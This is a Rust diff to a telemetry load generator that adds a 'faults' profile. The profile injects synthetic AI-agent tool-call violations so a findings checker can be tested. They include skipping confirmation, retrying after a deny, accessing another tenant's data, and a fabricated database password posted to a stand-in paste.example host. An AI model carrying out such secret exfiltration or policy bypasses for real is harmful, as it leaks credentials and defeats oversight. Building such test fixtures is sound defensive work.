@@ -119,6 +119,30 @@ pub enum Profile {
     /// 40,000 input and 4,000 output tokens of gpt-4o, and one `export_report` call declaring
     /// 5,000,000 result bytes).
     Runaway,
+    /// Normal runs, every fourth (n % 4 = 0) with one executor checklist fault that raises
+    /// one finding, in turn through [`FAULTS`] (run n carries `FAULTS[(n / 4) % 9]`, see
+    /// [`fault_of`]): two extra tool calls at the start of the run (one for the rules about a
+    /// single call), or the root's stop reason left out.
+    Faults,
+}
+
+/// The findings rules `--profile faults` injects, in the order runs take them.
+pub const FAULTS: [&str; 9] = [
+    "write_without_allow",
+    "high_impact_without_confirmation",
+    "confirmation_digest_mismatch",
+    "ambiguous_write_retried_without_key",
+    "retry_after_deny",
+    "cross_tenant_resource",
+    "parallel_writes_same_resource",
+    "loop_without_stop_reason",
+    "secret_in_outbound_call",
+];
+
+/// The fault `--profile faults` injects into run `n`, if any.
+pub fn fault_of(n: u64) -> Option<&'static str> {
+    n.is_multiple_of(4)
+        .then(|| FAULTS[usize::try_from((n / 4) % FAULTS.len() as u64).unwrap_or(0)])
 }
 
 /// Why loadgen could not run.
@@ -167,6 +191,8 @@ pub struct LoadgenReport {
     pub log_records: u64,
     /// Tool spans carrying a planted fake secret or personal data.
     pub planted_secrets: u64,
+    /// Runs with an injected checklist fault (`--profile faults`).
+    pub faulty_requests: u64,
     /// Export calls acknowledged.
     pub exports: u64,
     /// Bytes of acknowledged protobuf bodies.
@@ -194,6 +220,7 @@ impl LoadgenReport {
             "downstream_spans": self.downstream_spans,
             "log_records": self.log_records,
             "planted_secrets": self.planted_secrets,
+            "faulty_requests": self.faulty_requests,
             "exports": self.exports,
             "bytes": self.bytes,
             "retries": self.retries,
@@ -213,6 +240,7 @@ impl LoadgenReport {
         self.downstream_spans += run.downstream;
         self.log_records += run.logs;
         self.planted_secrets += run.planted;
+        self.faulty_requests += run.faults;
     }
 }
 
@@ -254,6 +282,7 @@ struct RunCounts {
     downstream: u64,
     logs: u64,
     planted: u64,
+    faults: u64,
 }
 
 impl RunCounts {
@@ -269,6 +298,7 @@ impl RunCounts {
         self.downstream += o.downstream;
         self.logs += o.logs;
         self.planted += o.planted;
+        self.faults += o.faults;
     }
 }
 
@@ -585,8 +615,9 @@ impl Generator {
 
     fn run(&mut self, n: u64, tenants: u32) -> AgentRun {
         match self.profile {
-            Profile::Normal => self.normal_run(n, tenants),
+            Profile::Normal => self.normal_run(n, tenants, None),
             Profile::Runaway => self.runaway_run(n, tenants),
+            Profile::Faults => self.normal_run(n, tenants, fault_of(n)),
         }
     }
 
@@ -756,7 +787,7 @@ impl Generator {
         }
     }
 
-    fn normal_run(&mut self, n: u64, tenants: u32) -> AgentRun {
+    fn normal_run(&mut self, n: u64, tenants: u32, fault: Option<&str>) -> AgentRun {
         let tenant = format!("{}{}", self.tenant_prefix, n % u64::from(tenants));
         let principal = format!("user-{}", self.rng.random_range(0..50u32));
         let request_id = format!("req-{}-{n:08}", self.seed);
@@ -852,6 +883,13 @@ impl Generator {
             ],
             ..Default::default()
         };
+        let mut root = root;
+        if let Some(fault) = fault {
+            let calls = self.fault_calls(fault, &trace_id, &mut root, &request_id, &principal);
+            counts.tool += calls.len() as u64;
+            counts.faults += 1;
+            exec_spans.extend(calls);
+        }
         exec_spans.insert(0, root);
         counts.agent += 1;
         let expected = expected_summary(&request_id, &tenant, &principal, &exec_spans, &down_spans);
@@ -904,6 +942,188 @@ impl Generator {
             expected,
             counts,
         }
+    }
+
+    /// The tool calls (children of `root`, at its start) that make one checklist fault, or
+    /// the change to `root` itself; everything else about them is what a careful executor
+    /// sends, so the run raises exactly this finding beyond what its normal calls raise.
+    fn fault_calls(
+        &mut self,
+        fault: &str,
+        trace_id: &[u8],
+        root: &mut Span,
+        request_id: &str,
+        principal: &str,
+    ) -> Vec<Span> {
+        const MS: u64 = 1_000_000;
+        let t0 = root.start_time_unix_nano + MS / 2;
+        let order = self.rng.random_range(0..100_000u32);
+        let resource = format!("orders/{order}");
+        let args =
+            format!(r#"{{"order_id":"ORD-{order:05}","note":"customer called about delivery"}}"#);
+        // (tool, effect, decision, result, extra attributes, start offset ms, duration ms)
+        type Call = (
+            &'static str,
+            &'static str,
+            &'static str,
+            &'static str,
+            Vec<KeyValue>,
+            u64,
+            u64,
+        );
+        let plain = |tool, effect, decision, result, extra, at, dur| -> Call {
+            (tool, effect, decision, result, extra, at, dur)
+        };
+        let calls: Vec<(Call, String)> = match fault {
+            "write_without_allow" => vec![(
+                plain(
+                    "add_order_note",
+                    "write",
+                    "require_confirmation",
+                    "ok",
+                    vec![],
+                    0,
+                    2,
+                ),
+                args.clone(),
+            )],
+            "high_impact_without_confirmation" => vec![(
+                plain("issue_refund", "high_impact", "allow", "ok", vec![], 0, 2),
+                args.clone(),
+            )],
+            "confirmation_digest_mismatch" => {
+                // Approved for one note; what ran carries another.
+                let previewed = args.replace("delivery", "billing");
+                let digest = crate::protect::confirmation::confirmation_digest(
+                    Some("issue_refund"),
+                    Some(&previewed),
+                    Some(&resource),
+                    None,
+                );
+                vec![(
+                    plain(
+                        "issue_refund",
+                        "high_impact",
+                        "allow",
+                        "ok",
+                        vec![
+                            s("executor.confirmation_status", "approved"),
+                            s("executor.confirmation_digest", digest),
+                        ],
+                        0,
+                        2,
+                    ),
+                    args.clone(),
+                )]
+            }
+            "ambiguous_write_retried_without_key" => vec![
+                (
+                    plain("add_order_note", "write", "allow", "timeout", vec![], 0, 2),
+                    args.clone(),
+                ),
+                (
+                    plain("add_order_note", "write", "allow", "ok", vec![], 3, 2),
+                    args.clone(),
+                ),
+            ],
+            "retry_after_deny" => vec![
+                (
+                    plain("export_customers", "read", "deny", "denied", vec![], 0, 1),
+                    args.clone(),
+                ),
+                (
+                    plain("export_customers", "read", "deny", "denied", vec![], 2, 1),
+                    args.clone(),
+                ),
+            ],
+            "cross_tenant_resource" => vec![(
+                plain(
+                    "get_order",
+                    "read",
+                    "allow",
+                    "ok",
+                    vec![s("executor.resource_tenant_id", "another-tenant")],
+                    0,
+                    2,
+                ),
+                args.clone(),
+            )],
+            "parallel_writes_same_resource" => vec![
+                (
+                    plain("add_order_note", "write", "allow", "ok", vec![], 0, 4),
+                    args.clone(),
+                ),
+                (
+                    plain("add_order_note", "write", "allow", "ok", vec![], 1, 4),
+                    args.replace("delivery", "invoice"),
+                ),
+            ],
+            "secret_in_outbound_call" => {
+                // A tool returns a credential; the next call sends it out.
+                let secret: String = (0..20)
+                    .map(|_| {
+                        char::from(
+                            b"abcdefghjkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
+                                [self.rng.random_range(0..55usize)],
+                        )
+                    })
+                    .collect();
+                vec![
+                    (
+                        plain(
+                            "read_config",
+                            "read",
+                            "allow",
+                            "ok",
+                            vec![s(
+                                "gen_ai.tool.call.result",
+                                format!(r#"{{"db_password":"{secret}"}}"#),
+                            )],
+                            0,
+                            1,
+                        ),
+                        r#"{"name":"billing"}"#.to_string(),
+                    ),
+                    (
+                        plain("http_post", "read", "allow", "ok", vec![], 2, 1),
+                        format!(r#"{{"url":"https://paste.example/new","body":"{secret}"}}"#),
+                    ),
+                ]
+            }
+            _ => {
+                // loop_without_stop_reason
+                root.attributes
+                    .retain(|kv| kv.key != "executor.stop_reason");
+                Vec::new()
+            }
+        };
+        calls
+            .into_iter()
+            .map(|((tool, effect, decision, result, extra, at, dur), args)| {
+                let mut attrs = vec![
+                    s("gen_ai.operation.name", "execute_tool"),
+                    s("gen_ai.tool.name", tool),
+                    s("gen_ai.tool.call.arguments", args),
+                    s("executor.request_id", request_id),
+                    s("executor.principal_id", principal),
+                    s("executor.effect_class", effect),
+                    s("executor.policy_decision", decision),
+                    s("executor.result_code", result),
+                    s("executor.resource_id", resource.clone()),
+                ];
+                attrs.extend(extra);
+                self.span(
+                    trace_id,
+                    &root.span_id,
+                    format!("execute_tool {tool}"),
+                    SpanKind::Internal,
+                    t0 + at * MS,
+                    dur * MS,
+                    attrs,
+                    false,
+                )
+            })
+            .collect()
     }
 
     #[allow(clippy::too_many_arguments)]
